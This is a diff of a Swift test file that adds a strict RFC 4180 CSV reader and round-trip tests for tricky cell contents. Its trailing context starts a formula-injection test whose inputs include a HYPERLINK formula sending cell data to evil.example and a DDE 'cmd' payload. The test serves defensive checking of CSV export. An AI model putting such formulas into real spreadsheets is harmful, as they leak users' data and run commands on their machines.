@@ -10,6 +10,49 @@ import Testing
         #expect(String(decoding: table.bytes, as: UTF8.self) == "a,b\r\n\"x,\"\"y\"\"\r\n\",\r\n,-5\r\n")
     }
 
+    /// Read as RFC 4180 has it, byte by byte: a line's end outside quotation marks is CR and LF, and nothing else.
+    private func rows(_ bytes: [UInt8]) throws -> [[String]] {
+        struct NotStrict: Error { var byte: Int }
+        var (rows, row, cell, index) = ([[String]](), [String](), [UInt8](), 0)
+        while index < bytes.count {
+            if bytes[index] == UInt8(ascii: "\""), cell.isEmpty {
+                index += 1
+                while index < bytes.count {
+                    if bytes[index] == UInt8(ascii: "\"") {
+                        index += 1
+                        guard index < bytes.count, bytes[index] == UInt8(ascii: "\"") else { break }
+                    }
+                    cell.append(bytes[index])
+                    index += 1
+                }
+            } else {
+                while index < bytes.count, !",\r\n\"".utf8.contains(bytes[index]) {
+                    cell.append(bytes[index])
+                    index += 1
+                }
+            }
+            row.append(String(decoding: cell, as: UTF8.self))
+            cell = []
+            if index < bytes.count, bytes[index] == UInt8(ascii: ",") {
+                index += 1
+            } else if bytes[index...].starts(with: "\r\n".utf8) {
+                index += 2
+                rows.append(row)
+                row = []
+            } else {
+                throw NotStrict(byte: index)
+            }
+        }
+        return rows
+    }
+
+    @Test(arguments: ["a\rb", "a\nb", "a\r\nb", "a,b", "a\"b", "\"", "a\r", "a b", "ä;\u{2028}"])
+    func aStrictReaderReadsEachCellBack(text: String) throws {
+        var table = CSVTable(columns: ["a", "b"])
+        table.rows = [[.text(text), .text("next")]]
+        #expect(try rows(table.bytes) == [["a", "b"], [text, "next"]])
+    }
+
     /// Breaks when a spreadsheet computes what an app has recorded: a formula there can send the other cells away.
     @Test(arguments: [
         "=HYPERLINK(\"https://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1",
